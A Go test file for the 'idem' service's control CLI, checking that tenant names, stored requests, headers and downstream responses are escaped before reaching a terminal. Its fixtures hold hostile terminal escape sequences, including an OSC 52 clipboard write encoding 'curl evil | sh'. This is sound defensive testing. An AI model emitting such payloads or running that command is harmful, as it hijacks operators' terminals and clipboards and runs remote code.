package main

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/idemkit/idem/internal/pgtest"
	"github.com/idemkit/idem/outbox"
	"github.com/idemkit/idem/server"
)

// Sequences a hostile payload sends to the operator's terminal: set the
// window's title, clear the screen, write the clipboard (OSC 52), a C1
// CSI and a bidirectional override.
const (
	setTitle  = "\x1b]0;pwned\x07"
	clear     = "\x1b[2J\x1b[H"
	clipboard = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\"
	c1CSI     = "\u009b31m"
	bidi      = "\u202e"
)

// drivesTerminal reports the first byte or character of out that a
// terminal may act on, or "" when there is none (newlines and tabs are
// the output's own).
func drivesTerminal(out string) string {
	for i, r := range out {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r < 0xa0 || r == 0x202e {
			return fmt.Sprintf("%U at byte %d: %q", r, i, out[max(i-20, 0):min(i+20, len(out))])
		}
	}
	return ""
}

// hostileCharge stores, through the middleware, a Leased record whose
// tenant, request body, response header and response body carry terminal
// sequences, and returns its tenant.
func hostileCharge(t *testing.T, pool *pgxpool.Pool) string {
	t.Helper()
	tenant := "acme" + setTitle
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain"+bidi)
		w.WriteHeader(http.StatusCreated)
		_, _ = io.WriteString(w, "charged"+clear+clipboard+c1CSI)
	})
	cfg := server.Config{Mode: server.Leased, Scope: func(*http.Request) (string, string) { return tenant, "alice" },
		Logger: slog.New(slog.DiscardHandler)}
	mux := http.NewServeMux()
	mux.Handle("POST /v1/charges", server.Middleware(server.NewPostgresStore(pool), cfg)(h))
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	req, _ := http.NewRequest(http.MethodPost, srv.URL+"/v1/charges", strings.NewReader(`{"note":"`+clipboard+`"}`))
	req.Header.Set("Idempotency-Key", "k-hostile")
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	require.Equal(t, http.StatusCreated, resp.StatusCode)
	return tenant
}

// Stored bytes never reach the terminal raw: a record's scope, stored
// request and response are escaped, in the table and in JSON (issue 41,
// item 9).
func TestKeyEscapesStoredBytes(t *testing.T) {
	db := pgtest.SchemaURL(t)
	pool := pgtest.NewPool(t, db)
	require.NoError(t, server.Migrate(context.Background(), pool))
	tenant := hostileCharge(t, pool)
	args := []string{"key", "-tenant", tenant, "-principal", "alice", "-route", "POST /v1/charges", "-payload", "k-hostile"}

	code, out, errOut := ctl(t, db, "", args...)
	require.Equal(t, exitOK, code, errOut)
	assert.Empty(t, drivesTerminal(out), "key -payload:\n%s", out)
	assert.Contains(t, out, `acme\x1b]0;pwned\a`, "the tenant is shown escaped")
	assert.Contains(t, out, `charged\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\u009b31m`, "the response body, escaped")
	assert.Contains(t, out, `{"note":"\x1b]52;`, "the request body, escaped")
	assert.Contains(t, out, `Content-Type: text/plain\u202e`, "a header value, escaped")

	code, out, errOut = ctl(t, db, "", append([]string{"-json"}, args...)...)
	require.Equal(t, exitOK, code, errOut)
	assert.Empty(t, drivesTerminal(out), "-json key -payload:\n%s", out)
	assert.Contains(t, out, `\u001b]0;pwned\u0007`, "JSON's own escapes")
	assert.Contains(t, out, `\u009b31m`)

	code, out, _ = ctl(t, db, "", "inflight")
	require.Equal(t, exitOK, code)
	assert.Empty(t, drivesTerminal(out), "inflight:\n%s", out)
}

// A downstream's answer to an outbox message is escaped, and a binary
// one is shown as binary (issue 41, item 9).
func TestMessageEscapesTheDownstreamsAnswer(t *testing.T) {
	db := pgtest.SchemaURL(t)
	pool := pgtest.NewPool(t, db)
	ctx := context.Background()
	require.NoError(t, outbox.Migrate(ctx, pool))
	downstream := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Reason", "no"+c1CSI) // obs-text (Go's client refuses a C0 control)
		w.WriteHeader(http.StatusBadRequest)
		if r.URL.Path == "/binary" {
			_, _ = w.Write([]byte("\x1f\x8b\x08\x00" + clear + "\xff\xfe"))
			return
		}
		_, _ = io.WriteString(w, "refused"+clear+clipboard+c1CSI+bidi)
	}))
	t.Cleanup(downstream.Close)
	ob, err := outbox.New(pool, outbox.Config{Logger: slog.New(slog.DiscardHandler), PollInterval: 20 * time.Millisecond})
	require.NoError(t, err)
	ids := map[string]int64{}
	for _, path := range []string{"/text", "/binary"} {
		require.NoError(t, pgx.BeginFunc(ctx, pool, func(tx pgx.Tx) error {
			ids[path], err = ob.Enqueue(ctx, tx, outbox.Message{Name: "hook", Method: "POST",
				URL: downstream.URL + path, Key: "msg" + path, Body: []byte(`{}`)})
			return err
		}))
	}
	runCtx, stop := context.WithCancel(ctx)
	done := make(chan error)
	go func() { done <- ob.Run(runCtx) }()
	t.Cleanup(func() { stop(); <-done })
	require.Eventually(t, func() bool { p, _ := ob.Parked(ctx, 0, 2); return len(p) == 2 }, 20*time.Second, 10*time.Millisecond)

	for _, args := range [][]string{{"parked"}, {"-json", "parked"}, {"message", fmt.Sprint(ids["/text"])},
		{"-json", "message", fmt.Sprint(ids["/text"])}, {"message", fmt.Sprint(ids["/binary"])}} {
		code, out, errOut := ctl(t, db, "", args...)
		require.Equal(t, exitOK, code, "%v: %s", args, errOut)
		assert.Empty(t, drivesTerminal(out), "%v:\n%s", args, out)
	}
	_, out, _ := ctl(t, db, "", "message", fmt.Sprint(ids["/text"]))
	assert.Contains(t, out, `refused\x1b[2J\x1b[H\x1b]52;c;`, out)
	assert.Contains(t, out, `X-Reason: no\u009b31m`, out)
	_, out, _ = ctl(t, db, "", "message", fmt.Sprint(ids["/binary"]))
	assert.Contains(t, out, "(binary: 13 bytes; the first 13 in hex:)\n00000000  1f 8b 08 00 1b 5b 32 4a", out)
}
